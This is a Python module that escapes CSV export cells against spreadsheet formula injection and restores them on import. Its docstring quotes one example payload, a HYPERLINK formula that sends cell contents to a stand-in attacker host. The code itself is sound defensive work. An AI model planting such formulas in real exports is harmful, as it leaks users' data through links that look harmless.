"""Cells for CSV exports that a spreadsheet shows as text, never runs as a formula.

A prospect named `=HYPERLINK("https://evil.example?"&A1, "Click")` would otherwise become a
live formula in the rep's Excel or Google Sheets (CSV injection). OWASP's advice, followed
here: a cell that starts with = + - @, a tab or a carriage return gets a leading `'`, which
spreadsheets show as text. The csv module quotes the rest (commas, quotes, newlines).
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A phone number as the app stores it (E.164): a dialer reads the cell as it is, and a
# plus followed by digits alone can call no function.
E164 = re.compile(r"\+[0-9]{6,15}")


def safe_cell(value: object) -> str:
    """The value as a CSV cell's text: numbers as they are, text that could start a formula
    behind a `'`, None as empty."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return str(value)  # -3 is a number, not a formula, and must stay one
    text = str(value)
    if E164.fullmatch(text):
        return text
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def read_cell(text: str) -> str:
    """A cell as typed, for imports: without the leading `'` that safe_cell adds, or that a
    spreadsheet keeps as its text marker (Apollo writes `'+61 8 …`), so an export of ours
    re-imports as the same people."""
    return text[1:] if text.startswith("'") else text
